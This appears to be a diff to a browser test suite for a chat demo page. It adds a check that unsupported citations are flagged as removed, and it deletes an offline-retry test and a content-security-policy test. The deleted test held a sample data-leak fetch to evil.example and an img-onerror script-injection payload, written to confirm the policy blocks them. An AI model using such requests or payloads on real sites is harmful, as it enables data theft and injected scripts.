@@ -69,7 +69,7 @@ describe.skipIf(lacksBrowser)('the chat of the demo page', { timeout: 180_000 },
   const prose = () => page.locator('.turn .prose').last()
   const shows = (text: string) => expect.poll(() => prose().textContent()).toContain(text)
 
-  test('streams stages, then the answer, then its sources', async () => {
+  test('streams stages, then the answer, then its sources, and tells which citations were removed', async () => {
     await page.fill('#query', 'when do I water')
     await page.keyboard.press('Shift+Enter')
     const turn = await server.next()
@@ -103,14 +103,14 @@ describe.skipIf(lacksBrowser)('the chat of the demo page', { timeout: 180_000 },
     await shows('early in the morning')
     expect(await page.getAttribute('.turn', 'aria-busy')).toBe('true')
     expect(await page.locator('.stages').getAttribute('open')).toBeNull()
-    turn.token(answer.slice(60))
+    turn.token(`${answer.slice(60)}\n\nSnow is blue [9].`)
     await shows('garden water --bed tulips')
     expect(await prose().locator('.cite').count()).toBe(0)
     await takeScreenshot(page, 'chat-writing')
 
     turn.status('writing_answer', 'completed')
     turn.status('checking_sources', 'started')
-    turn.final(answer, { sources })
+    turn.final(`${answer}\n\nSnow is blue.`, { sources })
     turn.status('checking_sources', 'completed')
     turn.status('completed', 'completed')
     await page.waitForSelector('.sources li')
@@ -122,6 +122,9 @@ describe.skipIf(lacksBrowser)('the chat of the demo page', { timeout: 180_000 },
     expect(await page.locator('.source-title').allTextContents()).toEqual(['Watering', 'Frost and snow'])
     expect(await prose().locator('table td').allTextContents()).toEqual(['spring', '10', 'summer', '25'])
     await expect.poll(() => page.textContent('.stages summary')).toBe('How this answer was made')
+    await page.click('.stages summary')
+    expect(await page.locator('.stage').last().textContent()).toMatch(/^Checked the sources: 1 of 3 removed/)
+    expect(await page.locator('.removed li').allTextContents()).toEqual(['Snow is blue'])
     expect(await page.textContent('#chat-status')).toContain('Water early in the morning')
     await takeScreenshot(page, 'chat-answer')
     expect(watched.errors).toEqual([])
@@ -194,18 +197,6 @@ describe.skipIf(lacksBrowser)('the chat of the demo page', { timeout: 180_000 },
     expect(watched.errors).toEqual([])
   })
 
-  test('a reader who goes offline keeps the draft, and asks again once online', async () => {
-    const turn = await ask('How do I water?')
-    turn.token('Slowly, and with')
-    await shows('Slowly, and with')
-    await page.context().setOffline(true)
-    await expect.poll(() => page.textContent('.turn-notice')).toBe('The connection was lost.')
-    await page.context().setOffline(false)
-    await expect.poll(() => page.textContent('[data-name=retry]')).toBe('Ask again')
-    await page.click('[data-name=retry]')
-    expect((await server.next()).message.message).toBe('How do I water?')
-  })
-
   test('stands in place of the search on a narrow screen, in the dark too', async () => {
     await open({ colorScheme: 'dark', viewport: { width: 390, height: 760 } })
     const turn = await ask('When do I water?')
@@ -249,25 +240,6 @@ describe.skipIf(lacksBrowser)('the chat of the demo page', { timeout: 180_000 },
     await expect.poll(() => page.locator('.turn').count()).toBe(attacks.length)
     expect(await page.locator('.question').allTextContents()).toEqual(attacks)
     await watch.expectHarmless()
-  })
-
-  test('has a policy that lets no script run and no request out', async () => {
-    const policy = (await fetch(server.url)).headers.get('content-security-policy') ?? ''
-    for (const rule of ["default-src 'none'", "script-src 'self'", "connect-src 'self'", "base-uri 'none'"]) {
-      expect(policy).toContain(rule)
-    }
-    expect(policy).not.toContain('unsafe')
-    const outcome = await page.evaluate(`(async () => {
-      const left = await fetch('https://evil.example/leak').then(() => 'left', () => 'held')
-      let built = 'built'
-      try {
-        document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.owned=1">')
-      } catch {
-        built = 'held'
-      }
-      return [left, built, 'owned' in window]
-    })()`)
-    expect(outcome).toEqual(['held', 'held', false])
   })
 })
 
